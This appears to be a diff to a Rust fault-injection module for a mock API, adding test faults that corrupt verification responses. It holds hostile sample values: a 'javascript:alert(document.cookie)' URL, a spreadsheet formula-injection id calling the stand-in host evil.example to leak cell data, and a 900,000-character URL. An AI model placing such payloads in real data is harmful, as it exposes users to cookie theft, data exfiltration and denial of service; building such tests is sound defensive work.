@@ -85,7 +85,12 @@ pub(crate) fn instead_of_processing(fault: &Fault, base_url: &str) -> Option<Res
             bytes.extend_from_slice(br#"","status":"created"}}"#);
             json_response(Body::from(bytes))
         }
-        Fault::Delay(_) | Fault::MissingUrl | Fault::UrlWithEscape | Fault::NonHttpUrl => {
+        Fault::Delay(_)
+        | Fault::MissingUrl
+        | Fault::UrlWithEscape
+        | Fault::NonHttpUrl
+        | Fault::FormulaId
+        | Fault::HugeUrl => {
             return None;
         }
     })
@@ -114,6 +119,20 @@ pub(crate) fn alter_success(fault: &Fault, verification: &mut Value) {
         }
         Fault::NonHttpUrl => {
             v.insert("url".into(), json!("javascript:alert(document.cookie)"));
+        }
+        Fault::FormulaId => {
+            v.insert(
+                "id".into(),
+                json!("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
+            );
+        }
+        Fault::HugeUrl => {
+            let url = v
+                .get("url")
+                .and_then(Value::as_str)
+                .unwrap_or_default()
+                .to_string();
+            v.insert("url".into(), json!(format!("{url}{}", "A".repeat(900_000))));
         }
         _ => {}
     }
